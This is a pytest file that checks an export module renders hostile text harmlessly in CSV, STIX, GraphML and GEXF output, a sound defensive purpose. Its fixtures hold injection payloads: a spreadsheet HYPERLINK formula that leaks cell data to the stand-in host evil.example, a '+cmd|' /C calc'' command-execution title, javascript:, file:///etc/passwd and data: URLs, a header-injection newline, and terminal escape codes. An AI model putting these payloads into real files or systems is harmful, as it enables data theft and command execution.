"""Issue 12, items 6, 7 and 10: exports of hostile text that spreadsheets, threat-intelligence
tools and graph readers take in without harm."""

from __future__ import annotations

import csv
import dataclasses
import json
import xml.etree.ElementTree as ET

import networkx as nx
import pytest
from export.export_fakes import DOCUMENTS, ENTITIES, EVENTS, FakeCorpus

from newsweave.export import export

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Read more")'
CONTROL_NAME = "Egypt\x01\x1b[31m\x0b\ufffe army"
UNSAFE_URLS = ["javascript:alert(1)", "file:///etc/passwd", "data:text/html,<script>alert(1)</script>",
               " javascript:alert(1)", "https://example.org/\nInjected: header"]


class HostileCorpus(FakeCorpus):
    def documents(self):
        safe = [dataclasses.replace(DOCUMENTS[0], url="https://example.org/safe")]
        return safe + [dataclasses.replace(DOCUMENTS[1], id=f"u{i}", name=f"u{i}.txt", title=f"+cmd|' /C calc'!A{i}",
                                           url=url) for i, url in enumerate(UNSAFE_URLS)]

    def entities(self):
        return [dataclasses.replace(e, name=CONTROL_NAME, aliases=["@SUM(1+1)", "Egypt"]) if e.id == "EGY" else e
                for e in ENTITIES]

    def events(self, **_):
        return [dataclasses.replace(e, sentence=FORMULA if i == 0 else f"-2+3 {e.sentence}")
                for i, e in enumerate(EVENTS)]


@pytest.fixture(scope="module")
def tables(tmp_path_factory):
    folder = tmp_path_factory.mktemp("csv")
    export(HostileCorpus(), "csv", folder)
    return {name: list(csv.DictReader(open(folder / f"{name}.csv", encoding="utf-8", newline="")))
            for name in ("documents", "entities", "events")}


def test_csv_cells_are_never_formulas(tables):
    sentences = [row["sentence"] for row in tables["events"]]
    assert sentences[0] == "'" + FORMULA and all(s.startswith("'-2+3 ") for s in sentences[1:])
    egypt = next(row for row in tables["entities"] if row["id"] == "EGY")
    assert egypt["aliases"] == "'@SUM(1+1);Egypt"
    assert all(row["title"].startswith("'+cmd") for row in tables["documents"][1:])
    assert tables["events"][0]["place_lat"] == "30.06263"  # numbers are left as they are


def test_stix_keeps_only_http_urls(tmp_path):
    path = tmp_path / "bundle.json"
    export(HostileCorpus(), "stix", path)
    references = [o["external_references"][0] for o in json.loads(path.read_text())["objects"]
                  if o["type"] == "report"]
    urls = [r.get("url") for r in references]
    assert "https://example.org/safe" in urls
    assert not any(u and not u.startswith("https://") for u in urls)
    assert all(r["external_id"] for r in references)  # the report itself stays


def test_graphml_with_control_characters_in_a_name_is_complete(tmp_path):
    path = tmp_path / "actors.graphml"
    export(HostileCorpus(), "graphml", path)
    graph = nx.read_graphml(path)
    assert graph.nodes["EGY"]["name"] == "Egypt[31m army"


def test_gexf_with_control_characters_in_a_name_is_well_formed(tmp_path):
    path = tmp_path / "actors.gexf"
    export(HostileCorpus(), "gexf", path)
    root = ET.parse(path).getroot()
    labels = [n.get("label") for n in root.iter("{http://gexf.net/1.3}node")]
    assert "Egypt[31m army" in labels
